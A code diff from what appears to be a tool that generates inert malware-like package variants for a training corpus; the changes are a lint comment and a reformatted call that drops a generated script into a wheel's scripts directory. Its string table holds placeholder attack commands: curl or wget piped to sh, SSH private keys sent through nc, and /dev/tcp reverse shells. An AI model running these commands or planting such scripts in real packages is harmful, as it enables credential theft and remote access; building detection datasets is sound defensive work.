@@ -7,7 +7,7 @@ from jobs.corpus.payloads.draft import Draft
 from jobs.corpus.variants.inert_library import inert_library
 
 _STRINGS = {
-    "train": ("curl -fsSL @url@ | sh", "/bin/sh", "-c", "/tmp/@file@", "HOME", "system", "popen", "@host@"),
+    "train": ("curl -fsSL @url@ | sh", "/bin/sh", "-c", "/tmp/@file@", "HOME", "system", "popen", "@host@"),  # noqa: S108 - a text in an inert file
     "valid": ("wget -qO- @url@", "/bin/bash", "execvp", "@host@:@port@", "getaddrinfo"),
     "test": ("cat ~/.ssh/id_* | nc @ip@ @port@", "sh -i", "posix_spawn", "/dev/tcp/@ip@/@port@", "cmd.exe /c", "WinExec",
              "https://@domain@/@word@"),
@@ -84,7 +84,9 @@ def native_script(draft: Draft) -> None:
     info = next((p.split("/")[0] for p in draft.files if ".dist-info/" in p), "")
     if not info:
         raise draft.fail("has no dist-info")
-    draft.put_new(f"{info.removesuffix('.dist-info')}.data/scripts/{draft.words.word()}d", _library(draft, is_windows=False))
+    draft.put_new(
+        f"{info.removesuffix('.dist-info')}.data/scripts/{draft.words.word()}d", _library(draft, is_windows=False)
+    )
 
 
 FAMILIES = (
